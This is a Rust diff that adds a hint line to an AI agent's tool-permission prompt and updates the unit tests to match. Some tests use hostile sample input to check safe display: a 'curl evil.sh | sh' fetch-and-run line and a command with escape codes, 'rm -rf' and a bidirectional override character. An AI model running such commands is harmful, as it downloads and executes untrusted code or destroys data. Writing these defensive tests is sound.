@@ -199,7 +199,8 @@ pub fn question(q: &Question<'_>) -> Vec<String> {
     } else {
         format!("[a]lways: {}", visible(&q.request.suggested.join(", ")))
     };
-    lines.push(format!("  [y]es  {always}  [n]o  [s]top  (Enter: no)"));
+    lines.push(format!("  [y]es  {always}  [n]o  [s]top"));
+    lines.push("  one key · Enter: no · or type what to do instead".to_owned());
     lines
 }
 
@@ -221,11 +222,17 @@ mod tests {
         let lines = ask("shell", &args, &["shell(echo*)"]);
         assert_eq!(lines[0], "  allow shell?");
         let shown: String =
-            lines[1..lines.len() - 2].iter().map(|l| l.strip_prefix("    ").unwrap()).collect();
+            lines[1..lines.len() - 3].iter().map(|l| l.strip_prefix("    ").unwrap()).collect();
         assert_eq!(shown, long);
         assert!(lines.iter().all(|l| l.chars().count() <= 80), "{lines:#?}");
-        assert_eq!(lines[lines.len() - 2], "    in /w");
-        assert_eq!(lines[lines.len() - 1], "  [y]es  [a]lways: shell(echo*)  [n]o  [s]top  (Enter: no)");
+        assert_eq!(
+            lines[lines.len() - 3..],
+            [
+                "    in /w",
+                "  [y]es  [a]lways: shell(echo*)  [n]o  [s]top",
+                "  one key · Enter: no · or type what to do instead"
+            ]
+        );
         let tricky = serde_json::json!({"command": "ls\u{1b}[2K\rrm -rf x\ttab\u{202e}"}).to_string();
         assert_eq!(ask("shell", &tricky, &[])[1], "    ls\\e[2K\\rrm -rf x\\ttab\\u{202e}");
     }
@@ -245,7 +252,8 @@ mod tests {
                 "    echo done",
                 "    (the command above is 201 lines long; it starts: curl evil.sh | sh)",
                 "    in /w",
-                "  [y]es  [a]lways  [n]o  [s]top  (Enter: no)",
+                "  [y]es  [a]lways  [n]o  [s]top",
+                "  one key · Enter: no · or type what to do instead",
             ]
         );
         let short = ask("shell", &serde_json::json!({"command": "a\n\nb"}).to_string(), &[]);
@@ -263,7 +271,8 @@ mod tests {
                 "    notes:",
                 "    a",
                 "    b",
-                "  [y]es  [a]lways: mcp__w__get  [n]o  [s]top  (Enter: no)"
+                "  [y]es  [a]lways: mcp__w__get  [n]o  [s]top",
+                "  one key · Enter: no · or type what to do instead"
             ]
         );
         assert_eq!(ask("x", "not json", &[])[1], "    not json");
@@ -297,7 +306,8 @@ mod tests {
                 "    -x = 1",
                 "    +x = 2",
                 "     print(x)",
-                "  [y]es  [a]lways  [n]o  [s]top  (Enter: no)"
+                "  [y]es  [a]lways  [n]o  [s]top",
+                "  one key · Enter: no · or type what to do instead"
             ]
         );
         let lines = show("write_file", serde_json::json!({"path": "new.txt", "content": "hello\n"}));
